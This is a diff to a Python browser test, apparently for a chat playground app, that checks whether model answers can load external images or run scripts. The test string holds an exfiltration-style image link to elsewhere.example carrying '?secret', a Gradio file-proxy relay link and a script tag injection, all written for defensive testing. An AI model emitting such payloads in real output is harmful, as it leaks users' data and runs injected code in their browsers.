@@ -350,7 +350,9 @@ async def test_a_prompt_is_shown_as_it_was_typed(visitor: Visitor, puppet: Puppe
 
 
 async def test_no_picture_is_fetched_from_an_answer(visitor: Visitor, puppet: Puppet) -> None:
-    evil = "![](https://elsewhere.example/p.png?secret) <script>document.title='x'</script> end"
+    relay = "![](/gradio_api/file=https://elsewhere.example/p.png)"  # Gradio would fetch it
+    evil = f"![](https://elsewhere.example/p.png?secret) {relay} "
+    evil += "<script>document.title='x'</script> end"
     await visitor.ask("Draw")
     for model in ("one", "two"):
         puppet.feed(model, evil, last(1, 1), None)
@@ -358,7 +360,8 @@ async def test_no_picture_is_fetched_from_an_answer(visitor: Visitor, puppet: Pu
     await visitor.finished()
     assert await visitor.page.title() == "Phi Playground"
     blocked = [fault for fault in visitor.faults if "Content Security Policy" in fault]
-    assert [f for f in visitor.faults if f not in blocked and "left this machine" not in f] == []
+    others = [f for f in visitor.faults if f not in blocked and "left this machine" not in f]
+    assert others and all("404" in fault for fault in others), others
     assert blocked, "the policy, not luck, kept the picture out"
     visitor.faults.clear()
 
